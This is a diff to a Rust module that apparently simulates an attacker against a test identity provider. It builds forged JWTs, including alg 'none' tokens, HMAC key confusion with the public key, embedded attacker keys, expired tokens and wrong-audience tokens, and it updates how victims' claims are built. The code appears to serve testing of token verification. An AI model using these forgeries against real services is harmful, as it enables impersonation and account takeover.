@@ -5,14 +5,14 @@ use base64::Engine as _;
 use base64::engine::general_purpose::URL_SAFE_NO_PAD;
 use http::Method;
 use jsonwebtoken::{Algorithm, EncodingKey};
-use serde_json::{Value, json};
+use serde_json::json;
 
-use super::Attacker;
+use super::{Attacker, CLIENT};
 use crate::data::customer;
 use crate::idp::{Idp, message, now};
 
 /// Customers whose names are to be changed; none of them shops.
-const VICTIMS: std::ops::Range<usize> = 30..38;
+const VICTIMS: std::ops::Range<usize> = 50..58;
 
 pub(crate) async fn run(mut attacker: Attacker) {
     let real = attacker.shop.idp.clone();
@@ -34,9 +34,11 @@ type Forgery = fn(&Idp, &Idp, &str) -> String;
 
 const FORGERIES: [Forgery; 8] = [
     // Unsigned (CVE-2015-9235 and its kin).
-    |real, _, victim| format!("{}.", message(&json!({ "alg": "none", "typ": "JWT" }), &real.claims(victim))),
     |real, _, victim| {
-        format!("{}.AA", message(&json!({ "alg": "nOnE", "typ": "JWT" }), &real.claims(victim)))
+        format!("{}.", message(&json!({ "alg": "none", "typ": "JWT" }), &real.claims(victim, CLIENT)))
+    },
+    |real, _, victim| {
+        format!("{}.AA", message(&json!({ "alg": "nOnE", "typ": "JWT" }), &real.claims(victim, CLIENT)))
     },
     // The public key, which everybody has, as the secret of an HMAC (key confusion).
     |real, _, victim| symmetric(real, victim, real.public.to_string().as_bytes()),
@@ -44,19 +46,19 @@ const FORGERIES: [Forgery; 8] = [
     // A key the token brings along.
     |real, own, victim| {
         let header = json!({ "alg": "ES256", "typ": "JWT", "jwk": own.public });
-        own.sign(&header, &real.claims(victim))
+        own.sign(&header, &real.claims(victim, CLIENT))
     },
     // Another key under the right name.
-    |real, own, victim| own.sign(&real.header(), &real.claims(victim)),
+    |real, own, victim| own.sign(&real.header(), &real.claims(victim, CLIENT)),
     // Issued, long ago.
     |real, _, victim| {
-        let mut claims = real.claims(victim);
+        let mut claims = real.claims(victim, CLIENT);
         claims["exp"] = json!(now() - 86_400);
         real.sign(&real.header(), &claims)
     },
     // Issued, for another service.
     |real, _, victim| {
-        let mut claims = real.claims(victim);
+        let mut claims = real.claims(victim, CLIENT);
         claims["aud"] = json!("newsletter");
         real.sign(&real.header(), &claims)
     },
@@ -64,7 +66,7 @@ const FORGERIES: [Forgery; 8] = [
 
 fn symmetric(real: &Idp, victim: &str, secret: &[u8]) -> String {
     let header = json!({ "alg": "HS256", "typ": "JWT", "kid": real.public["kid"] });
-    let message = message(&header, &Value::clone(&real.claims(victim)));
+    let message = message(&header, &real.claims(victim, CLIENT));
     let signature =
         jsonwebtoken::crypto::sign(message.as_bytes(), &EncodingKey::from_secret(secret), Algorithm::HS256);
     format!("{message}.{}", signature.unwrap_or_else(|_| URL_SAFE_NO_PAD.encode([0; 32])))
